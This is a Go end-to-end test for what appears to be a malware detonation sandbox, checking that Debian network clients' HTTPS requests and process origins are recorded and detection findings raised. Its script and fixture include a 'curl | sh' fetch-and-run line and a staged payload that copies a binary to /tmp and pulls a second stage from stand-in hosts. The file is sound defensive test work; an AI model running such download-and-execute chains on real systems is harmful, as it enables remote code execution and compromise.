package e2e_test

import (
	"archive/tar"
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/detonaut/detonaut/chamber/tape"
	"github.com/detonaut/detonaut/internal/golden"
	"github.com/detonaut/detonaut/internal/image/imagetest"
	"github.com/detonaut/detonaut/internal/testenv"
)

// client is a program of Debian that fetches https://HOST.clients.example in
// its own way.
type client struct {
	name string
	// command has HOST for the host to ask.
	command string
	// program is the executable that the tape must show to have asked.
	program string
	// rejects is set when it must not trust us.
	rejects bool
	// mute is set when it sends no request, so that only TLS can be seen.
	mute bool
}

var clientPrograms = []client{
	{name: "curl", command: `curl -fsS https://HOST/`, program: "/usr/bin/curl"},
	{name: "wget", command: `wget -q -O- https://HOST/`, program: "/usr/bin/wget"},
	{name: "python-urllib", command: `python3 -c 'import urllib.request as u; u.urlopen("https://HOST/").read()'`, program: "/usr/bin/python3"},
	{name: "python-requests", command: `python3 -c 'import requests; requests.get("https://HOST/").raise_for_status()'`, program: "/usr/bin/python3"},
	{name: "node", command: `node -e 'require("https").get("https://HOST/", r => r.resume()).on("error", e => { throw e })'`, program: "/usr/bin/node"},
	{name: "openssl", command: `printf 'GET / HTTP/1.0\r\nHost: HOST\r\n\r\n' | openssl s_client -quiet -verify_return_error -servername HOST -connect HOST:443`, program: "/usr/bin/openssl"},
	{name: "java", command: `java -cp /clients Get https://HOST/`, program: "/usr/lib/jvm/"},
	{name: "git", command: `git ls-remote https://HOST/repository.git`, program: "/usr/lib/git-core/"},
	{name: "apt", command: `echo 'deb [trusted=yes] https://HOST/debian stable main' >/etc/apt/sources.list && rm -f /etc/apt/sources.list.d/* && apt-get update`, program: "/usr/lib/apt/methods/http"},
	{name: "pip", command: `pip3 download --break-system-packages --no-deps --no-build-isolation -d /tmp/pip --index-url https://HOST/simple/ sample || pip3 download --no-deps -d /tmp/pip --index-url https://HOST/simple/ sample`, program: "/usr/bin/pip3"},
	{name: "npm", command: `npm view sample --registry https://HOST/`, program: "/usr/bin/node"},
	{name: "go", command: `/clients/client get https://HOST/`, program: "/clients/client"},
	{name: "curl with a pinned key", command: `curl -fsS --pinnedpubkey sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= https://HOST/`, program: "/usr/bin/curl", rejects: true, mute: true},
	{name: "go with a pinned key", command: `/clients/client pinned https://HOST/`, program: "/clients/client", rejects: true, mute: true},
}

func (c client) host() string {
	return strings.ReplaceAll(c.name, " ", "-") + ".clients.example"
}

// clientScript runs every client, each with its host, and says how it went.
func clientScript() string {
	var b strings.Builder
	b.WriteString("#!/bin/sh\ntry() {\n\tif sh -c \"$2\" >/tmp/out 2>&1; then echo \"$1: trusts\"; else echo \"$1: refuses\"; tail -c 600 /tmp/out >&2; fi\n}\n")
	for _, c := range clientPrograms {
		command := strings.ReplaceAll(c.command, "HOST", c.host())
		fmt.Fprintf(&b, "try '%s' '%s'\n", c.name, strings.ReplaceAll(command, "'", `'\''`))
	}
	b.WriteString("ping -c 1 -w 20 ping.clients.example && echo ping: answered\n")
	b.WriteString("curl -fsSL https://payload.clients.example/install.sh | sh\n")
	return b.String()
}

const answers = `- host: payload.clients.example
  path: /install.sh
  body: |
    #!/bin/sh
    cp /clients/client /tmp/payload
    /tmp/payload get http://second.clients.example/stage
    echo payload ran
`

// clientFindings is all that is held against them. That package managers fetch
// is none; that somebody pinned a key is told, and does not count; and the
// payload of "curl | sh" is a program that was not there.
var clientFindings = []string{
	"command-and-control/own-trust", "defense-evasion/copied-program", "execution/piped-script", "execution/runs-download",
	"execution/temporary-program", "execution/written-program", "tool/netcat",
}

// Real clients of a real distribution talk to the simulated internet over
// HTTPS, and what they asked for is in clear on the tape, with the process that
// asked.
func TestNetworkClients(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "answers.yaml"), answers)
	keep := filepath.Join(dir, "keep")
	r := scan(t, "oci-dir:"+clientImage(t), "--duration", "5m", "--memory", "4GiB", "--processes", "2000",
		"--answers", filepath.Join(dir, "answers.yaml"), "--keep", keep)
	if r.Run.EndReason != string(tape.Exited) || !strings.Contains(r.Run.Output, "payload ran") || !strings.Contains(r.Run.Output, "ping: answered") {
		t.Errorf("the run ended with %s (%s); output:\n%s", r.Run.EndReason, r.Run.EndDetail, r.Run.Output)
	}
	events := kept(t, keep)
	programs := executables(events)
	for _, c := range clientPrograms {
		said := c.name + ": trusts"
		if c.rejects {
			said = c.name + ": refuses"
		}
		if !strings.Contains(r.Run.Output, said) {
			t.Errorf("no %q in the output", said)
		}
		asked := exchanges(events, c.host())
		if len(asked) == 0 && !c.mute {
			t.Errorf("%s: no request to %s on the tape", c.name, c.host())
		}
		if c.mute && len(asked) > 0 {
			t.Errorf("%s: it made a request all the same: %+v", c.name, asked[0].HTTP)
		}
		for _, e := range asked {
			if !strings.HasPrefix(e.HTTP.URL, "https://") || !strings.HasPrefix(programs[e.PID], c.program) {
				t.Errorf("%s: %s %s by process %d (%s), want https by %s", c.name, e.HTTP.Method, e.HTTP.URL, e.PID, programs[e.PID], c.program)
			}
		}
	}
	if !slices.ContainsFunc(events, func(e *tape.Event) bool {
		return e.Kind == tape.TLSHandshake && e.TLS.Rejected && e.TLS.SNI == "go-with-a-pinned-key.clients.example" && e.TLS.JA4 != ""
	}) {
		t.Error("the pinned client's refusal is not on the tape")
	}
	if !slices.ContainsFunc(events, func(e *tape.Event) bool {
		return e.Kind == tape.FlowEnded && e.FlowEnd.Network == "icmp" && e.FlowEnd.Name == "ping.clients.example" && programs[e.PID] == "/usr/bin/ping"
	}) {
		t.Error("the ping is not on the tape with its process")
	}
	attributed(t, events, programs)
	if diff := cmp.Diff(clientFindings, findings(r)); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
	shows(t, keep)
	table(t, r.Run.Output)
	if t.Failed() {
		t.Logf("output:\n%s", r.Run.Output)
	}
}

// attributed shows that what "curl | sh" fetched and ran is told apart from who
// fetched it.
func attributed(t *testing.T, events []*tape.Event, programs map[int32]string) {
	t.Helper()
	first, second := exchanges(events, "payload.clients.example"), exchanges(events, "second.clients.example")
	if len(first) != 1 || programs[first[0].PID] != "/usr/bin/curl" {
		t.Errorf("the script was fetched by %+v", first)
	}
	if len(second) != 1 || programs[second[0].PID] != "/tmp/payload" {
		t.Errorf("the second stage was fetched by %+v", second)
	}
}

// shows proves that the capture can be read without a key file.
func shows(t *testing.T, keep string) {
	t.Helper()
	found, err := filepath.Glob(filepath.Join(keep, "*", "network.pcapng"))
	if err != nil || len(found) != 1 {
		t.Fatalf("captures = %v, %v", found, err)
	}
	out, err := exec.CommandContext(t.Context(), "tshark", "-r", found[0], "-Y", "http2.headers.authority or http.host",
		"-T", "fields", "-e", "http2.headers.authority", "-e", "http.host").Output()
	if err != nil {
		t.Fatalf("tshark: %v; run testdata/needs.sh test", err)
	}
	for _, host := range []string{"curl.clients.example", "wget.clients.example", "java.clients.example", "go.clients.example"} {
		if !strings.Contains(string(out), host) {
			t.Errorf("the capture does not show the request to %s in clear", host)
		}
	}
	har, err := filepath.Glob(filepath.Join(keep, "*", "network.har"))
	if err != nil || len(har) != 1 {
		t.Fatalf("HAR files = %v, %v", har, err)
	}
	text, err := os.ReadFile(har[0])
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(text, []byte("https://payload.clients.example/install.sh")) {
		t.Error("the HAR does not have the payload")
	}
	bodies, err := filepath.Glob(filepath.Join(keep, "*", "bodies", "*"))
	if err != nil || len(bodies) == 0 {
		t.Errorf("bodies = %v, %v", bodies, err)
	}
}

// kept reads the one tape below a directory of --keep.
func kept(t *testing.T, keep string) []*tape.Event {
	t.Helper()
	found, err := filepath.Glob(filepath.Join(keep, "*", "tape.jsonl.zst"))
	if err != nil || len(found) != 1 {
		t.Fatalf("tapes = %v, %v", found, err)
	}
	return readTape(t, found[0])
}

// executables are the last programs of all processes.
func executables(events []*tape.Event) map[int32]string {
	programs := make(map[int32]string)
	for _, e := range events {
		switch {
		case e.Kind == tape.ProcessExec && e.Errno == "":
			programs[e.PID] = e.Process.Executable
		case e.Kind == tape.ProcessFork && e.Errno == "":
			programs[e.Process.Child] = programs[e.PID]
		}
	}
	return programs
}

// exchanges are the requests to a host.
func exchanges(events []*tape.Event, host string) (found []*tape.Event) {
	for _, e := range events {
		if e.Kind == tape.HTTPExchange && strings.Contains(e.HTTP.URL, "://"+host) {
			found = append(found, e)
		}
	}
	return found
}

// clientImage makes an image of Debian with many clients.
func clientImage(t *testing.T) (dir string) {
	t.Helper()
	root, err := imagetest.TarLayer(testenv.DebianClients(t))
	if err != nil {
		t.Fatal(err)
	}
	program, err := os.ReadFile(testenv.Program(t, "./e2e/client"))
	if err != nil {
		t.Fatal(err)
	}
	own, err := imagetest.Layer([]imagetest.File{
		{Header: tar.Header{Name: "clients/run", Mode: 0o755}, Body: []byte(clientScript())},
		{Header: tar.Header{Name: "clients/client", Mode: 0o755}, Body: program},
		{Header: tar.Header{Name: "clients/Get.class", Mode: 0o644}, Body: compiled(t)},
	}, imagetest.Gzip)
	if err != nil {
		t.Fatal(err)
	}
	img, err := imagetest.New(v1.Config{Entrypoint: []string{"/clients/run"}, Env: []string{path, "HOME=/root"}},
		v1.Platform{OS: "linux", Architecture: runtime.GOARCH}, root, own)
	if err != nil {
		t.Fatal(err)
	}
	dir = filepath.Join(t.TempDir(), "clients")
	if err := imagetest.WriteOCIDir(img, dir); err != nil {
		t.Fatal(err)
	}
	return dir
}

// compiled is the class of testdata/Get.java.
func compiled(t *testing.T) []byte {
	t.Helper()
	dir := t.TempDir()
	if out, err := exec.CommandContext(t.Context(), "javac", "-d", dir, filepath.Join("testdata", "Get.java")).CombinedOutput(); err != nil {
		t.Fatalf("javac: %v; run testdata/needs.sh test\n%s", err, out)
	}
	b, err := os.ReadFile(filepath.Join(dir, "Get.class"))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func write(t *testing.T, file, text string) {
	t.Helper()
	if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
}

// table holds the document's table of clients to what they said; -update
// writes it.
func table(t *testing.T, output string) {
	t.Helper()
	var b strings.Builder
	b.WriteString("| client | trusts the run's CA |\n|---|---|\n")
	for _, c := range clientPrograms {
		word := "?"
		if m := regexp.MustCompile(`(?m)^` + c.name + `: (trusts|refuses)$`).FindStringSubmatch(output); m != nil {
			word = map[string]string{"trusts": "yes", "refuses": "no"}[m[1]]
		}
		fmt.Fprintf(&b, "| %s | %s |\n", c.name, word)
	}
	section(t, "clients", b.String())
}

// section compares a part of docs/network.md, between two comments, with what
// it should say.
func section(t *testing.T, name, want string) {
	t.Helper()
	got, err := replaceSection(filepath.Join(testenv.Root(t), "docs", "network.md"), name, want)
	if err != nil {
		t.Fatal(err)
	}
	if got != want && !golden.Updating() {
		t.Errorf("docs/network.md says of %s:\n%s\nwant (run the test with -update):\n%s", name, got, want)
	}
}
